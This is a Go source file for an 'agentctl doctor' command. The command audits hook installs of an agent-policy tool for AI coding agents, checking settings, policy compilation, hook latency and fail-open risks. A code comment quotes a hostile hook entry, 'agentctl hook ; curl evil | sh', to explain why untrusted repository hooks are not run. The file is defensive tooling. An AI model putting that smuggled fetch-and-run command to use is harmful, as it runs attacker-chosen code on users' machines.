//go:build !agentctl_lean

package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"strings"
	"time"

	"github.com/urfave/cli/v2"

	"github.com/agentctl/agentctl/agenthook"
	"github.com/agentctl/agentctl/settings"
)

func doctorCommand() *cli.Command {
	return &cli.Command{
		Name:  "doctor",
		Usage: "check agentctl's hook installs for the cwd: where, under which settings, how fast, and what could fail open",
		UsageText: `agentctl doctor [--cwd DIR] [--output json]

Reports, for the cwd: which agents have agentctl installed as a hook and at which
scope; the settings sources in effect with their warnings; whether the policy
compiles; the measured latency of one hook call (a real process, as the agent
runs it); and anything that would let a call through: a hook on an event that
cannot block, a matcher that leaves tools out, a timeout shorter than twice the
measured latency, a Cursor entry without failClosed.

Exit code: 0 when nothing is wrong, 1 otherwise.`,
		Flags:  withGlobals(),
		Action: doctorAction,
	}
}

// doctorReport is what doctor prints (--output json).
type doctorReport struct {
	Cwd       string           `json:"cwd"`
	Installs  []agenthook.Hook `json:"installs"`
	Settings  []string         `json:"settings_files"`
	Warnings  []string         `json:"warnings"`
	Policy    string           `json:"policy"`
	LatencyMS float64          `json:"hook_latency_ms,omitempty"`
	Measured  string           `json:"measured_with,omitempty"`
	Problems  []string         `json:"problems"`
}

func doctorAction(c *cli.Context) error {
	env, err := hookEnv(c)
	if err != nil {
		return err
	}
	r := doctorReport{Cwd: env.Cwd, Warnings: []string{}, Problems: []string{}, Settings: []string{}}
	hooks, problems, err := allHooks(c, "")
	if err != nil {
		return err
	}
	r.Problems = append(r.Problems, problems...)
	for _, h := range hooks {
		if h.Agentctl {
			r.Installs = append(r.Installs, h)
		}
	}
	if len(r.Installs) == 0 {
		r.Problems = append(r.Problems, "agentctl is not installed as a hook of any agent here (agentctl hooks install --agent claude)")
	}
	r.Warnings = append(r.Warnings, loaderWarnings(r.Installs)...)
	r.Problems = append(r.Problems, geminiSwitchedOff(c, r.Installs)...)
	o := settingsOptions(c)
	o.Cwd = env.Cwd
	// Settings are loaded as the hook loads them.
	s, err := settings.Load(o)
	if err != nil {
		r.Policy = "not compiled: settings do not load"
		r.Problems = append(r.Problems, "settings: "+err.Error()+" (every hook call fails closed: blocked)")
	} else {
		for _, f := range s.Files {
			r.Settings = append(r.Settings, fmt.Sprintf("%s %s", f.Source, f.Display))
		}
		for _, w := range s.Warnings {
			r.Warnings = append(r.Warnings, w.String())
		}
		for _, v := range s.HooksDisabledBy {
			if len(r.Installs) > 0 {
				r.Problems = append(r.Problems, fmt.Sprintf("fail-open risk: %s %s sets disableAllHooks: true: Claude Code runs no hook in this workspace, agentctl's included",
					v.Source, v.Pos))
			}
		}
		r.Problems = append(r.Problems, rejectedInstalls(r.Installs, s.AgentRejects)...)
		if e, closeLog, err := engineFor(c, s); err != nil {
			r.Policy = "does not compile: " + err.Error()
			r.Problems = append(r.Problems, "policy: "+err.Error()+" (every hook call fails closed: blocked)")
		} else {
			closeLog()
			r.Policy = fmt.Sprintf("compiles (%d rules)", len(e.Settings().Rules))
		}
	}
	// Settings that do not load (a repository env naming where policy
	// lives, say) leave nothing trustworthy to run: doctor times itself.
	var runnable, skipped []agenthook.Hook
	if s != nil {
		runnable, skipped = runnableInstalls(r.Installs, s.Trust.Trusted)
	}
	for _, h := range skipped {
		r.Warnings = append(r.Warnings, fmt.Sprintf("%s %s install in %s not run to measure latency: the workspace is not trusted; measured this binary instead",
			h.Agent, h.Scope, h.File))
	}
	latency, with, err := measureHook(c, env.Cwd, runnable)
	if err != nil {
		r.Problems = append(r.Problems, "hook call: "+err.Error())
	} else {
		r.LatencyMS, r.Measured = float64(latency.Microseconds())/1000, with
	}
	for _, h := range r.Installs {
		for _, risk := range h.Risks(latency.Seconds()) {
			r.Problems = append(r.Problems, fmt.Sprintf("fail-open risk: %s %s %s in %s: %s", h.Agent, h.Scope, h.Event, h.File, risk))
		}
	}
	asJSON, err := jsonOutput(c)
	if err != nil {
		return err
	}
	if asJSON {
		enc := json.NewEncoder(c.App.Writer)
		enc.SetIndent("", "  ")
		if err := enc.Encode(r); err != nil {
			return err
		}
	} else {
		printDoctor(c.App.Writer, r)
	}
	if len(r.Problems) > 0 {
		return cli.Exit("", exitError)
	}
	return nil
}

func printDoctor(w io.Writer, r doctorReport) {
	fmt.Fprintf(w, "cwd: %s\n", r.Cwd)
	fmt.Fprintln(w, "installed:")
	if len(r.Installs) == 0 {
		fmt.Fprintln(w, "  (nowhere)")
	}
	for _, h := range r.Installs {
		t, def := h.TimeoutDuration()
		timeout := fmt.Sprintf("timeout %gs", t)
		if def {
			timeout += " (the agent's default)"
		}
		fmt.Fprintf(w, "  %s %s %s matcher %q %s: %s\n", h.Agent, h.Scope, h.Event, h.Matcher, timeout, h.File)
	}
	fmt.Fprintln(w, "settings:")
	for _, f := range r.Settings {
		fmt.Fprintf(w, "  %s\n", f)
	}
	for _, warn := range r.Warnings {
		fmt.Fprintf(w, "  warning: %s\n", warn)
	}
	fmt.Fprintf(w, "policy: %s\n", r.Policy)
	if r.Measured != "" {
		fmt.Fprintf(w, "hook latency: %.1f ms (one call of: %s)\n", r.LatencyMS, r.Measured)
	}
	if len(r.Problems) == 0 {
		fmt.Fprintln(w, "no problems found")
		return
	}
	fmt.Fprintln(w, "problems:")
	for _, p := range r.Problems {
		fmt.Fprintf(w, "  - %s\n", p)
	}
}

// runnableInstalls are the installs doctor may run to measure latency:
// managed and user ones always, the repository's own (project and local
// scope) only in a trusted workspace. A repository can ship an entry such
// as "agentctl hook ; curl evil | sh": it names agentctl, yet running it
// runs whatever the repository chose.
func runnableInstalls(installs []agenthook.Hook, trusted bool) (runnable, skipped []agenthook.Hook) {
	for _, h := range installs {
		if !trusted && (h.Scope == agenthook.Project || h.Scope == agenthook.Local) {
			skipped = append(skipped, h)
			continue
		}
		runnable = append(runnable, h)
	}
	return runnable, skipped
}

// sampleEvent is a harmless tool event in an agent's own shape.
func sampleEvent(agent agenthook.Agent, cwd string) []byte {
	var ev map[string]any
	switch agent {
	case agenthook.Gemini:
		ev = map[string]any{"hook_event_name": "BeforeTool", "cwd": cwd, "tool_name": "run_shell_command",
			"tool_input": map[string]any{"command": "true"}}
	case agenthook.Cursor:
		ev = map[string]any{"hook_event_name": "beforeShellExecution", "conversation_id": "doctor",
			"workspace_roots": []string{cwd}, "cwd": cwd, "command": "true"}
	default:
		ev = map[string]any{"hook_event_name": "PreToolUse", "cwd": cwd, "permission_mode": "default",
			"tool_name": "Bash", "tool_input": map[string]any{"command": "true"}}
	}
	b, _ := json.Marshal(ev)
	return b
}

// measureHook runs one hook call as a real process — the first installed
// agentctl command as the agent would run it (sh -c), else this binary —
// and returns how long it took.
func measureHook(c *cli.Context, cwd string, installs []agenthook.Hook) (time.Duration, string, error) {
	agent := agenthook.Claude
	var cmd *exec.Cmd
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	if len(installs) > 0 {
		agent = installs[0].Agent
		cmd = exec.CommandContext(ctx, "/bin/sh", "-c", installs[0].Command)
	} else {
		exe, err := os.Executable()
		if err != nil {
			return 0, "", err
		}
		args := []string{"hook", "--agent", string(agent)}
		if m := flagString(c, "managed-settings"); m != "" {
			args = append(args, "--managed-settings", m)
		}
		cmd = exec.CommandContext(ctx, exe, args...)
	}
	cmd.Dir = cwd
	cmd.Stdin = bytes.NewReader(sampleEvent(agent, cwd))
	var out, errOut bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errOut
	start := time.Now()
	err := cmd.Run()
	took := time.Since(start)
	what := strings.Join(cmd.Args, " ")
	if cmd.ProcessState == nil {
		return took, what, fmt.Errorf("%s did not start: %w", what, err)
	}
	if code := cmd.ProcessState.ExitCode(); err != nil && code != 2 {
		return took, what, fmt.Errorf("%s exited %d (%v): %s — the agent would treat that as a non-blocking error and run the call", what, code, err, strings.TrimSpace(errOut.String()))
	}
	if cmd.ProcessState.ExitCode() == 2 {
		return took, what, fmt.Errorf("%s blocked a harmless call: %s", what, strings.TrimSpace(errOut.String()))
	}
	return took, what, nil
}
